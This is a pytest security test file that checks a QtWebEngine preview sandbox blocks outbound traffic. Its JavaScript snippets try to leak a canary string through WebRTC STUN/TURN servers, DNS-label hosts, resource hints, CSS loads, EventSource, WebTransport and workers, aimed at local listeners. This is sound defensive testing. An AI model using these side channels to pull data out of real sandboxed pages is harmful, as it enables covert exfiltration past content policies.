"""Traffic a previewed page starts outside any request must reach nobody.

WebRTC's ICE and ``<link rel=preconnect>`` pass neither the request
interceptor nor the page's Content-Security-Policy; only the engine's own
switches stop them. Each test runs the attack in a real QtWebEngine page (the
harness of ``test_web_sandbox``) and checks that TCP and UDP listeners on this
machine's addresses received nothing. The last tests keep what the policy and
the interceptor already stopped from coming back.
"""

from __future__ import annotations

import errno
import json
import os
import socket
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app.ui.window.application import UNSAFE_ARGUMENT_PREFIXES, UNSAFE_ARGUMENTS
from previewers.web import pages as web_pages
from tests.security.test_web_sandbox import Listener, Probe

ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
DATA = "5345435245542d43414e415259"  # the page's "data", hex as in a DNS label


def needs_engine(test: Any) -> Any:
    """Mark a test that runs pages in QtWebEngine (never as root)."""
    skip = pytest.mark.skipif(ROOT, reason="QtWebEngine cannot sandbox as root")
    return pytest.mark.webengine(skip(test))


class UdpListener:
    """A UDP socket that records every datagram it receives."""

    def __init__(self, host: str) -> None:
        self.hits: list[bytes] = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind((host, 0))
        self._socket.settimeout(0.2)
        self.port = self._socket.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                data, _address = self._socket.recvfrom(65536)
            except TimeoutError:
                continue
            self.hits.append(data)

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()


class TcpListener(Listener):
    """The harness's TCP listener, on any local address."""

    def __init__(self, host: str) -> None:
        self.hits = []
        self._socket = socket.create_server((host, 0))
        self._socket.settimeout(0.2)
        self.port = self._socket.getsockname()[1]
        self.url = f"http://{host}:{self.port}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()


def _other_local_address() -> str | None:
    """A non-loopback address of this machine, found without sending anything.

    ``connect`` on a UDP socket only picks the route and its source address.
    """
    finder = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        finder.connect(("192.0.2.1", 9))  # TEST-NET-1: never answered
        address = str(finder.getsockname()[0])
    except OSError:
        return None
    finally:
        finder.close()
    return None if address.startswith("127.") or address == "0.0.0.0" else address


LOCAL_ADDRESSES = ["127.0.0.1", *filter(None, [_other_local_address()])]


class Listeners:
    """A TCP and a UDP listener on each local address."""

    def __init__(self) -> None:
        self.tcp = {host: TcpListener(host) for host in LOCAL_ADDRESSES}
        self.udp = {host: UdpListener(host) for host in LOCAL_ADDRESSES}

    def hits(self) -> dict[str, list[bytes]]:
        found = {f"tcp {h}": t.hits for h, t in self.tcp.items() if t.hits}
        found.update({f"udp {h}": u.hits for h, u in self.udp.items() if u.hits})
        return found

    def close(self) -> None:
        for listener in [*self.tcp.values(), *self.udp.values()]:
            listener.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


@pytest.fixture
def listeners() -> Iterator[Listeners]:
    running = Listeners()
    yield running
    running.close()


@pytest.fixture
def probe(qtbot: Any, tmp_path: Path, listener: Listener) -> Iterator[Probe]:
    root = tmp_path / "ws"
    root.mkdir()
    harness = Probe(qtbot, root, listener)
    yield harness
    harness.close()


# -- 8: WebRTC -----------------------------------------------------------------------

ICE = """
const servers = [];
const remote = [];
for (const [host, udp, tcp] of TARGETS) {
  servers.push(
    {urls: `turn:${host}:${udp}?transport=udp`, username: "DATA", credential: "x"},
    {urls: `turn:${host}:${tcp}?transport=tcp`, username: "DATA", credential: "x"},
    {urls: `stun:${host}:${udp}`});
  remote.push(`candidate:1 1 udp 2122260223 ${host} ${udp} typ host`,
              `candidate:2 1 tcp 1518280447 ${host} ${tcp} typ host tcptype passive`);
}
const [, firstUdp, firstTcp] = TARGETS[0];
servers.push(
  {urls: `stun:DATA.localhost:${firstUdp}`},
  {urls: `turn:DATA.localhost:${firstTcp}?transport=tcp`, username: "DATA",
   credential: "x"});
const gathered = [];
const gathering = (pc) => new Promise((resolve) => {
  pc.onicecandidate = (event) => {
    if (event.candidate) gathered.push(event.candidate.candidate);
    else resolve();
  };
  setTimeout(resolve, 5000);
});
const one = new RTCPeerConnection({iceServers: servers});
const two = new RTCPeerConnection({iceServers: servers});
one.createDataChannel("data");
const done = gathering(one);
await one.setLocalDescription(await one.createOffer());
await two.setRemoteDescription(one.localDescription);
await two.setLocalDescription(await two.createAnswer());
await one.setRemoteDescription(two.localDescription);
for (const candidate of remote) {
  await one.addIceCandidate({candidate, sdpMid: "0"}).catch(() => null);
}
await done;
await later(2000);  // connectivity checks to the remote candidates
note("candidates", JSON.stringify(gathered));
note("state", one.iceConnectionState);
"""


@needs_engine
def test_webrtc_ice_reaches_no_stun_turn_or_peer_address(probe, listeners):
    targets = [
        [host, listeners.udp[host].port, listeners.tcp[host].port]
        for host in LOCAL_ADDRESSES
    ]
    script = ICE.replace("TARGETS", str(targets)).replace("DATA", DATA)
    widget = probe.open(script)
    results = probe.results(widget)
    assert "uncaught" not in results, results
    assert listeners.hits() == {}
    for candidate in json.loads(results["candidates"]):
        assert " udp " not in candidate.lower(), candidate
        assert " srflx " not in candidate and " relay " not in candidate, candidate
    assert results["state"] != "connected"


# -- 9: preconnect and name resolution --------------------------------------------


@needs_engine
@pytest.mark.parametrize("rel", ["preconnect", "dns-prefetch"])
def test_link_hints_resolve_no_name_and_open_no_connection(probe, listener, rel):
    widget = probe.open(
        f"""
    const hosts = ["127.0.0.1", "localhost", "{DATA}.localhost", "{DATA}.example"];
    for (const host of hosts) {{
      for (const scheme of ["http", "https"]) {{
        const link = document.createElement("link");
        link.rel = "{rel}";
        link.href = `${{scheme}}://${{host}}:LISTENER_PORT/`;
        document.head.append(link);
      }}
    }}
    await later(1500);
    """
    )
    probe.results(widget)
    assert listener.hits == []


def test_the_engine_starts_with_a_proxy_that_refuses_everything():
    from previewers.web import sandbox as web_sandbox

    server = web_pages.shared_server()
    switches = web_sandbox.start_engine(server.port)
    assert web_sandbox.start_engine(server.port) is switches
    assert switches.direct_port == server.port
    assert switches.flags == tuple(
        web_sandbox.chromium_flags(server.port, switches.null_proxy_port)
    )
    with pytest.raises(RuntimeError):
        web_sandbox.start_engine(server.port + 1)
    # The port every connection but the server's goes to refuses them, and
    # no other program can take it over.
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", switches.null_proxy_port), 2)
    intruder = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with pytest.raises(OSError) as taken:
        intruder.bind(("127.0.0.1", switches.null_proxy_port))
    intruder.close()
    assert taken.value.errno == errno.EADDRINUSE
    # Nothing that would weaken the sandbox or open a debugging port.
    for flag in switches.flags:
        name = flag.split("=", 1)[0]
        assert name not in UNSAFE_ARGUMENTS, flag
        assert not name.startswith(UNSAFE_ARGUMENT_PREFIXES), flag
    assert os.environ.get("QTWEBENGINE_CHROMIUM_FLAGS") is None


@needs_engine
def test_after_the_engine_started_no_switch_is_left_for_other_programs(probe):
    probe.open()
    assert "QTWEBENGINE_CHROMIUM_FLAGS" not in os.environ


@needs_engine
def test_the_server_the_engine_reaches_outlives_the_quit_signal(probe):
    widget = probe.open()
    server = web_pages.shared_server()
    web_pages._on_application_about_to_quit()
    assert web_pages.shared_server() is server
    with urllib.request.urlopen(widget.publication.url, timeout=5) as response:
        assert response.status == 200


# -- what already held -------------------------------------------------------------


@needs_engine
def test_refresh_ping_and_resource_hints_reach_no_other_port(probe, listener):
    widget = probe.open(
        """
    const refresh = document.createElement("meta");
    refresh.httpEquiv = "refresh";
    refresh.content = "0; url=LISTENER/refresh";
    document.head.append(refresh);
    for (const rel of ["prefetch", "prerender", "preload", "modulepreload", "icon",
                       "manifest", "stylesheet"]) {
      const link = document.createElement("link");
      link.rel = rel;
      link.as = "script";
      link.href = `LISTENER/${rel}`;
      document.head.append(link);
    }
    const anchor = document.createElement("a");
    anchor.href = "#here";
    anchor.ping = "LISTENER/ping";
    anchor.textContent = "ping";
    document.body.append(anchor);
    anchor.click();
    await later(1500);
    note("still_here", document.getElementById("p").textContent);
    """
    )
    results = probe.results(widget)
    assert results["still_here"] == "hello"
    assert widget.page.url().toString().startswith(widget.publication.prefix)
    assert listener.hits == []


@needs_engine
def test_css_import_url_and_font_face_reach_no_other_port(probe, listener):
    widget = probe.open(
        """
    const style = document.createElement("style");
    style.textContent = `
      @import url("LISTENER/import.css");
      @font-face { font-family: leak; src: url("LISTENER/font.woff2"); }
      body { background-image: url("LISTENER/background.png"); }
      #p { font-family: leak; cursor: url("LISTENER/cursor.png"), auto;
           list-style-image: url("LISTENER/bullet.png"); }`;
    document.head.append(style);
    document.getElementById("p").style.borderImage = 'url("LISTENER/b.png") 30';
    await document.fonts.load("12px leak").catch(() => null);
    await later(1000);
    note("font", document.fonts.check("12px leak") ? "READ" : "blocked");
    """
    )
    results = probe.results(widget)
    assert listener.hits == []
    assert "uncaught" not in results, results


@needs_engine
def test_event_source_and_web_transport_reach_no_other_port(probe, listeners):
    host = "127.0.0.1"
    tcp, udp = listeners.tcp[host].port, listeners.udp[host].port
    widget = probe.open(
        f"""
    await new Promise((resolve) => {{
      try {{
        const source = new EventSource("http://{host}:{tcp}/events");
        source.onopen = () => {{ note("event_source", "READ open"); resolve(); }};
        source.onerror = () => {{ note("event_source", "blocked"); resolve(); }};
      }} catch (error) {{ note("event_source", "blocked " + error); resolve(); }}
    }});
    try {{
      const transport = new WebTransport("https://{host}:{udp}/{DATA}");
      await attempt("web_transport", transport.ready.then(() => "open"));
    }} catch (error) {{ note("web_transport", "blocked " + error); }}
    await later(1000);
    """
    )
    results = probe.results(widget)
    assert results["event_source"].startswith("blocked"), results
    assert results["web_transport"].startswith("blocked"), results
    assert listeners.hits() == {}


@needs_engine
def test_blob_and_service_workers_reach_no_other_port(probe, listener):
    widget = probe.open(
        """
    const code = `fetch("LISTENER/worker", {mode: "no-cors"})
      .then(() => postMessage("READ sent"), (e) => postMessage("blocked " + e));`;
    const url = URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
    await new Promise((resolve) => {
      try {
        const worker = new Worker(url);
        worker.onmessage = (event) => { note("blob_worker", event.data); resolve(); };
        worker.onerror = () => { note("blob_worker", "blocked error"); resolve(); };
      } catch (error) { note("blob_worker", "blocked " + error); resolve(); }
      setTimeout(() => { note("blob_worker", "blocked silent"); resolve(); }, 3000);
    });
    try {
      const container = navigator.serviceWorker;
      await attempt("service_worker", container.register("probe.js"));
    } catch (error) { note("service_worker", "blocked " + error); }
    await later(500);
    """
    )
    results = probe.results(widget)
    assert results["blob_worker"].startswith("blocked"), results
    assert results["service_worker"].startswith("blocked"), results
    assert listener.hits == []
